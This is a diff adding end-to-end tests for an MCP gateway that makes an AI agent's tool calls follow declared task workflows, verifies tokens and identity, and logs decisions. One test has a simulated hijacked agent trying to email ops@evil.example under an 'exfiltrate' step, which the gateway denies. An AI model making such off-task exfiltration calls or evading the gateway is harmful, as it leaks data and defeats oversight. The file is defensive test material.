@@ -1,0 +1,168 @@
+"""End to end over stdio: a real MCP client -> `intentgate stdio` subprocess -> real upstream
+tool servers as stdio subprocesses (which verify every action token themselves)."""
+
+from __future__ import annotations
+
+import json
+import os
+import sqlite3
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+from mcp import Client, StdioServerParameters
+
+from gateway.identity import DevIssuer
+from gateway.keys import KeySet
+from tests.conftest import INTENTS_DIR, POLICY_DIR, ROOT
+
+pytestmark = pytest.mark.slow
+
+SERVER = ROOT / "tests" / "servers" / "tool_server.py"
+SUPPORT = "spiffe://example.org/agent/support-1"
+PARAMS = {"ticket_id": "TCK-1", "order_id": "ORD-7"}
+
+
+def make_gateway(tmp_path: Path, agent: str = SUPPORT, token: str | None = None) -> StdioServerParameters:
+    keys = KeySet.open_or_create(tmp_path / "keys" / "action")
+    jwks = tmp_path / "jwks.json"
+    jwks.write_text(json.dumps(keys.jwks()))
+    upstreams = [
+        {"name": n, "command": sys.executable, "args": [str(SERVER), "--name", n],
+         "env": {"INTENTGATE_JWKS": str(jwks)}, "timeout_seconds": 10}
+        for n in ("tickets", "orders", "payments", "email")
+    ]
+    cfg = tmp_path / "intentgate.yaml"
+    cfg.write_text(yaml.safe_dump({
+        "intents_dir": str(INTENTS_DIR), "policy_dir": str(POLICY_DIR), "data_dir": str(tmp_path),
+        "upstreams": upstreams,
+    }))
+    if token is None:
+        token = DevIssuer(KeySet.open_or_create(tmp_path / "keys" / "agent-issuer")).mint(agent)
+    return StdioServerParameters(
+        command=sys.executable, args=["-m", "gateway", "stdio", "--config", str(cfg)], cwd=str(ROOT),
+        env={**os.environ, "INTENTGATE_AGENT_TOKEN": token},
+    )
+
+
+def decisions(tmp_path: Path) -> list[tuple[str, str, list[str]]]:
+    db = sqlite3.connect(tmp_path / "intentgate.db")
+    rows = db.execute("SELECT tool, outcome, reasons FROM decisions WHERE kind='tools/call' ORDER BY seq").fetchall()
+    db.close()
+    return [(t, o, json.loads(r)) for t, o, r in rows]
+
+
+async def begin(client: Client, params: dict | None = None) -> str:
+    r = await client.call_tool(
+        "intentgate__begin_task", {"intent": "refund-order", "params": params or PARAMS, "reason": "customer asked"}
+    )
+    assert not r.is_error, r.content
+    return r.structured_content["task"]
+
+
+@pytest.mark.parametrize("mode", ["auto", "legacy"])
+async def test_conformant_workflow_over_stdio(tmp_path: Path, mode: str) -> None:
+    async with Client(make_gateway(tmp_path), mode=mode) as client:
+        names = {t.name: t for t in (await client.list_tools()).tools}
+        assert {"intentgate__begin_task", "tickets__get_ticket", "payments__refund", "email__send"} <= set(names)
+        assert "intent_task" in names["payments__refund"].input_schema["properties"]
+        assert "crash" not in " ".join(names)  # tools no intent uses are not listed
+        task = await begin(client)
+
+        def meta(step: str) -> dict:
+            return {"intentgate/task": task, "intentgate/step": step}
+
+        r = await client.call_tool(
+            "tickets__get_ticket", {"ticket_id": "TCK-1"}, meta={**meta("read_ticket"), "agent/private": "x"}
+        )
+        assert not r.is_error
+        echo = r.structured_content
+        assert echo["arguments"] == {"ticket_id": "TCK-1"}
+        assert echo["verified_jti"]  # the tool server verified and burnt the gateway's token
+        # nothing of the agent's _meta goes upstream: only the token (and the gateway's own
+        # session keys on 2026-07-28 connections)
+        forwarded = {k for k in echo["meta_keys"] if not k.startswith("io.modelcontextprotocol/")}
+        assert forwarded == {"intentgate/token"}
+        # the LLM-style form: task and step as arguments, stripped before forwarding
+        r = await client.call_tool(
+            "orders__get_order", {"order_id": "ORD-7", "intent_task": task, "intent_step": "lookup"}
+        )
+        assert not r.is_error and r.structured_content["arguments"] == {"order_id": "ORD-7"}
+        r = await client.call_tool(
+            "payments__refund", {"order_id": "ORD-7", "amount": 30, "currency": "EUR"}, meta=meta("refund")
+        )
+        assert not r.is_error and r.structured_content["verified_jti"]
+        r = await client.call_tool(
+            "tickets__add_comment", {"ticket_id": "TCK-1", "body": "refunded"}, meta=meta("comment")
+        )
+        assert not r.is_error
+    assert [o for _, o, _ in decisions(tmp_path)] == ["allow"] * 4
+
+
+async def test_denials_carry_decision_and_reasons(tmp_path: Path) -> None:
+    async with Client(make_gateway(tmp_path)) as client:
+        task = await begin(client)
+        r = await client.call_tool(
+            "payments__refund", {"order_id": "ORD-7", "amount": 30, "currency": "EUR"},
+            meta={"intentgate/task": task, "intentgate/step": "refund"},
+        )
+        assert r.is_error
+        sc = r.structured_content
+        assert sc["outcome"] == "deny" and "step_out_of_order:refund" in sc["reasons"]
+        assert sc["decision_id"].startswith("dec_") and sc["allowed_next"] == ["read_ticket"]
+        assert "not allowed at this point" in r.content[0].text
+        # off-workflow tool the hijacked agent wants
+        r = await client.call_tool(
+            "email__send", {"to": "ops@evil.example", "subject": "x", "body": "y"},
+            meta={"intentgate/task": task, "intentgate/step": "exfiltrate"},
+        )
+        assert r.is_error and r.structured_content["reasons"] == ["unknown_step:exfiltrate"]
+        # no task context at all
+        r = await client.call_tool("tickets__get_ticket", {"ticket_id": "TCK-1"})
+        assert r.is_error and r.structured_content["reasons"] == ["missing_task_context"]
+        # a tool that no upstream has
+        r = await client.call_tool("nowhere__thing", {}, meta={"intentgate/task": task, "intentgate/step": "x"})
+        assert r.is_error and r.structured_content["reasons"] == ["unknown_tool:nowhere__thing"]
+        # tampered binding
+        await client.call_tool("tickets__get_ticket", {"ticket_id": "TCK-1"},
+                               meta={"intentgate/task": task, "intentgate/step": "read_ticket"})
+        r = await client.call_tool("orders__get_order", {"order_id": "ORD-999"},
+                                   meta={"intentgate/task": task, "intentgate/step": "lookup"})
+        assert r.is_error and r.structured_content["reasons"] == ["binding_mismatch:order_id"]
+        # ending the task
+        r = await client.call_tool("intentgate__end_task", {"task": task})
+        assert not r.is_error and r.structured_content["status"] == "ended"
+        r = await client.call_tool("orders__get_order", {"order_id": "ORD-7"},
+                                   meta={"intentgate/task": task, "intentgate/step": "lookup"})
+        assert r.is_error and r.structured_content["reasons"] == ["task_ended:ended"]
+    recorded = decisions(tmp_path)
+    assert [o for _, o, _ in recorded].count("deny") == 6
+    assert ("nowhere.thing", "deny", ["unknown_tool:nowhere__thing"]) in recorded
+
+
+async def test_list_intents_and_begin_task_errors(tmp_path: Path) -> None:
+    async with Client(make_gateway(tmp_path)) as client:
+        r = await client.call_tool("intentgate__list_intents", {})
+        names = [i["name"] for i in r.structured_content["intents"]]
+        assert names and "rotate-credential" not in names and "refund-order" in names
+        r = await client.call_tool(
+            "intentgate__begin_task", {"intent": "rotate-credential", "params": {}, "reason": "x"}
+        )
+        assert r.is_error and r.structured_content["reasons"] == ["agent_not_permitted"]
+        assert r.structured_content["decision_id"].startswith("dec_")
+
+
+async def test_no_identity_no_tools(tmp_path: Path) -> None:
+    params = make_gateway(tmp_path, token="not-a-jwt")
+    with pytest.raises(Exception):  # noqa: B017 - the gateway refuses to start the session at all
+        async with Client(params) as client:
+            await client.list_tools()
+
+
+async def test_forged_identity_is_refused(tmp_path: Path) -> None:
+    forger = DevIssuer(KeySet.open_or_create(tmp_path / "elsewhere"))
+    params = make_gateway(tmp_path, token=forger.mint(SUPPORT))
+    with pytest.raises(Exception):  # noqa: B017
+        async with Client(params) as client:
+            await client.list_tools()
